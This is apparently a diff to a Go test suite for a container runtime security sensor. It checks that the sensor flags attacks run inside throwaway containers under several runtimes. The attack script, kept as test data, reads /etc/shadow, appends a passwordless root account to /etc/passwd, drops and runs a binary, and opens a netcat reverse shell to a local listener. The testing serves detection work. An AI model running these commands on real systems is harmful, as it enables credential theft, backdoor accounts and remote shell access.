@@ -5,6 +5,8 @@ package sensor
 import (
 	"fmt"
 	"net"
+	"os/exec"
+	"path/filepath"
 	"sync"
 	"testing"
 	"time"
@@ -54,7 +56,7 @@ func shellListener(t *testing.T) int {
 // /bin, drop a program and run it, and a reverse shell to port; slow ones
 // first wait a second.
 func attackScript(port int, slow bool) []string {
-	script := fmt.Sprintf("cat /etc/shadow >/dev/null; echo x > /bin/evil; mkdir -p /tmp/d && cp /bin/busybox /tmp/d/b && chmod +x /tmp/d/b && /tmp/d/b true; nc 127.0.0.1 %d -e /bin/sh", port)
+	script := fmt.Sprintf("cat /etc/shadow >/dev/null; echo x > /bin/evil; echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd; mkdir -p /tmp/d && cp /bin/busybox /tmp/d/b && chmod +x /tmp/d/b && /tmp/d/b true; nc 127.0.0.1 %d -e /bin/sh", port)
 	if slow {
 		script = "sleep 1; " + script
 	}
@@ -67,6 +69,7 @@ type attackRun struct {
 	pid     int    // its first process on the host
 	runtime string // the runtime events must name
 	slow    bool
+	overlay bool   // the container runs on an overlay root
 	image   string // the image reference events must carry ("" for none)
 	digest  string // and its digest
 }
@@ -82,6 +85,9 @@ func (h *harness) checkAttacks(t *testing.T, runs []attackRun, events []*event.E
 		for _, title := range []string{
 			"Reverse Shell - Shell With a Network Socket as Standard Input or Output",
 			"Netcat or Socat Executing a Program for a Connection",
+			"Password Hash or Sudo Policy File Read by an Unexpected Program",
+			"File Written Below a Binary or Library Directory in a Container",
+			"Executable Dropped in a Running Container Then Executed",
 		} {
 			a, err := h.alert(r.id, title, waitFor, nil)
 			if err != nil {
@@ -117,7 +123,15 @@ func (h *harness) checkAttacks(t *testing.T, runs []attackRun, events []*event.E
 			t.Errorf("container %s (slow %v, pid %d): execs %v", r.id, r.slow, r.pid, execs)
 		}
 		// Paths are the container's, however briefly it lived.
-		for _, f := range []string{"create /tmp/d/b", "chmod /tmp/d/b", "create /bin/evil"} {
+		want := []string{"create /tmp/d/b", "chmod /tmp/d/b", "create /bin/evil", "read /etc/shadow"}
+		if r.overlay && !files["create /etc/passwd"] && !files["write /etc/passwd"] {
+			// A write of a file of the image: the copy up (overlayfs
+			// links the copy into the upper directory, reported as its
+			// creation), or the write (a container registered with the
+			// file watcher).
+			t.Errorf("container %s (slow %v): no create or write of /etc/passwd among %v", r.id, r.slow, files)
+		}
+		for _, f := range want {
 			if !files[f] {
 				t.Errorf("container %s (slow %v): no %s among %v", r.id, r.slow, f, files)
 			}
@@ -151,6 +165,8 @@ func (h *harness) checkAttacks(t *testing.T, runs []attackRun, events []*event.E
 func TestShortLivedContainers(t *testing.T) {
 	h := sensorHarness(t)
 	port := shellListener(t)
+	template := filepath.Join(t.TempDir(), "rootfs")
+	runctest.BuildRootfs(t, template)
 	stop := h.record()
 	var runs []attackRun
 	var cs []*runctest.Container
@@ -158,7 +174,13 @@ func TestShortLivedContainers(t *testing.T) {
 		id := fmt.Sprintf("%s-%d", runctest.UniqueID(t), i)
 		h.watch(id)
 		slow := i%2 == 1
-		c := runctest.Start(t, runctest.Options{ID: id, Args: attackScript(port, slow)})
+		// Laid out by another process, as a runtime would (the sensor
+		// does not watch its own process).
+		rootfs := filepath.Join(t.TempDir(), "rootfs")
+		if out, err := exec.Command("cp", "-a", template, rootfs).CombinedOutput(); err != nil {
+			t.Fatalf("cp: %v: %s", err, out)
+		}
+		c := runctest.Start(t, runctest.Options{ID: id, Args: attackScript(port, slow), Rootfs: rootfs})
 		runs = append(runs, attackRun{id: id, pid: c.PID(), runtime: "runc", slow: slow})
 		cs = append(cs, c)
 		if !slow {
@@ -198,7 +220,7 @@ func TestContainerdContainers(t *testing.T) {
 		id := fmt.Sprintf("ctr-%d-%d", time.Now().UnixNano()%1e6, i)
 		h.watch(id)
 		k := ctrd.Run(t, runtimetest.Options{ID: id, Args: attackScript(port, slow)})
-		runs = append(runs, attackRun{id: id, pid: k.PID, runtime: "containerd", slow: slow})
+		runs = append(runs, attackRun{id: id, pid: k.PID, runtime: "containerd", slow: slow, overlay: true})
 		tasks = append(tasks, k)
 		if !slow {
 			if code := k.Wait(30 * time.Second); code != 0 {
@@ -228,7 +250,7 @@ func TestCRIContainers(t *testing.T) {
 		pod := ctrd.RunPod(t, runtimetest.PodOptions{NoContainer: true})
 		c := pod.StartContainer(t, runtimetest.ContainerOptions{Name: fmt.Sprintf("attack-%d", i), Args: attackScript(port, slow)})
 		h.watch(c.ID)
-		runs = append(runs, attackRun{id: c.ID, pid: c.PID, runtime: "containerd", slow: slow})
+		runs = append(runs, attackRun{id: c.ID, pid: c.PID, runtime: "containerd", slow: slow, overlay: true})
 		if code := c.Wait(t, 30*time.Second); code != 0 {
 			t.Fatalf("container %s exited %d: %s", c.ID, code, c.Logs())
 		}
@@ -249,7 +271,7 @@ func TestPodmanContainers(t *testing.T) {
 		slow := i%2 == 1
 		k := pm.Run(t, runtimetest.Options{Args: attackScript(port, slow)})
 		h.watch(k.ID)
-		runs = append(runs, attackRun{id: k.ID, pid: k.PID, runtime: "podman", slow: slow})
+		runs = append(runs, attackRun{id: k.ID, pid: k.PID, runtime: "podman", slow: slow, overlay: true})
 		if code := k.Wait(30 * time.Second); code != 0 {
 			t.Fatalf("container %s exited %d: %s", k.ID, code, k.Stderr())
 		}
@@ -265,9 +287,15 @@ func runtimeConfig(ctrd *runtimetest.Containerd, pm *runtimetest.Podman) Config 
 	cfg.Container.CRISockets = []string{}
 	cfg.Container.DockerSockets = []string{}
 	cfg.Container.RuncRoots = []string{}
+	// The images were imported before the sensor started.
+	cfg.Files.ImageLayers = []string{}
 	if ctrd != nil {
 		cfg.Container.CRISockets = []string{ctrd.Socket}
 		cfg.Container.RuncRoots = []string{ctrd.RuncRoot + "/" + runtimetest.CRINamespace, ctrd.RuncRoot + "/" + runtimetest.CtrNamespace}
+		cfg.Files.ImageLayers = append(cfg.Files.ImageLayers, ctrd.Root+"/io.containerd.snapshotter.v1.overlayfs/snapshots/*/fs")
+	}
+	if pm != nil {
+		cfg.Files.ImageLayers = append(cfg.Files.ImageLayers, pm.Root+"/overlay/*/diff")
 	}
 	return cfg
 }
